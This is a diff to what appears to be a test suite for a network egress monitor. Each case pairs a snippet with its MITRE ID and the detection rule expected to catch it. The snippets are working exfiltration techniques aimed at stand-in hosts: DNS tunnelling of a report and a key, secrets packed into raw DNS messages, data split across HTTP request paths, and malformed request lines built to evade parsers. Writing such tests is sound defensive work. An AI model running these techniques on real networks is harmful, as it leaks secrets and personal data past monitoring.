@@ -304,7 +304,7 @@ for n, piece in enumerate(pieces(report.encode().hex(), 60)[:20]):
     query(f"{piece}.n{n}.carrier.example", kind=10)
 """, allow=[WILD], rule="dns_tunnel"),
     # Of what is no query nothing leaves, and the log knows of it.
-    NetAttempt(10, "data in messages that are no query", "T1071.004", """
+    NetAttempt(10, "data in messages that are no query", "T1071.004|T1071.001", """
 name = bytes([len(secret)]) + secret.encode() + b"\\7carrier\\7example\\0"
 for flags, count, kind, more in ((0x100, 2, b"\\0\\1\\0\\1", name + b"\\0\\1\\0\\1"), (0x2100, 1, b"\\0\\1\\0\\1", b""), (0x100, 1, b"\\0\\x10\\0\\3", b""), (0x100, 1, b"\\0\\xff\\0\\1", b"x")):
     datagram(name_server(), 53, struct.pack("!HHHHHH", 7, flags, count, 0, 0, 0) + name + kind + more)
@@ -501,7 +501,7 @@ for piece in encoded:
     spread(first=f"GET /v1/{piece}/page HTTP/1.1")
 """, rule="passage_leaves", effect=segmented),
     # An answer to two numbers is none to two others each time, and not to nine.
-    NetAttempt(8, "personal data, a little at a time, by one answer", "T1030", """
+    NetAttempt(8, "personal data, a little at a time, by one answer", "T1041", """
 def number(n):
     digits = "4%014d" % (n * 7919 % 10 ** 14)
     checked = sum(int(d) if at % 2 else sum(divmod(2 * int(d), 10)) for at, d in enumerate(digits))
@@ -530,21 +530,22 @@ for before in ("POST", "\\r\\npost"):
     talk("opaque.example", 8080, before + said)
 """, allow=['{ host = "opaque.example", ports = [8080] }'], rule="passage_leaves", effect=carried),
     # Python splits the line at every blank of Latin-1, Node takes the methods and versions of RTSP, others any word.
-    NetAttempt(29, "a request line that only some servers read", "T1041", """
+    NetAttempt(29, "a request line that only some servers read", "T1041|T1071.001", """
 body = b"\\r\\nHost: opaque.example:8080\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(report) + report.encode()
 lines = [b"POST" + blank + b"/in" + blank + b"HTTP/1.1" for blank in (b"\\xa0", b"\\x85", b"\\x1c", b"\\x1d", b"\\x1e", b"\\x1f", b"\\xe2\\x80\\x83")]
 lines += [b"SET_PARAMETER /in RTSP/1.0", b"GET_PARAMETER /in rtsp/1.1", b"X_SOURCE /in ICE/1.0", b"\\x1cPOST /in HTTP/1.1", b"{ /in HTTP/1.1", b"post /in\\x01 HTTP/1.1"]
 for line in lines:
-    talk("opaque.example", 8080, line + body)
-    mark()
-    with socket.create_connection(("opaque.example", 8080)) as s:
+    for parts in ([line + body], [line[:6], line[6:], body]):
+        mark()
         try:
-            for part in (line[:6], line[6:], body):
-                s.sendall(part)
-                time.sleep(0.1)
-            s.recv(10)
+            with socket.create_connection(("opaque.example", 8080)) as s:
+                for part in parts:
+                    s.sendall(part)
+                    time.sleep(0.05)
+                s.settimeout(0.3)
+                s.recv(10)
         except OSError as e:
-            print("no:", e)
+            print("no:", type(e).__name__, e)
 """, allow=['{ host = "opaque.example", ports = [8080] }'], rule="bad_request", alert=False, effect=carried),
     NetAttempt(10, "a key in names below an allowed domain", "T1071.004", """
 query(KEY.lower() + ".carrier.example")
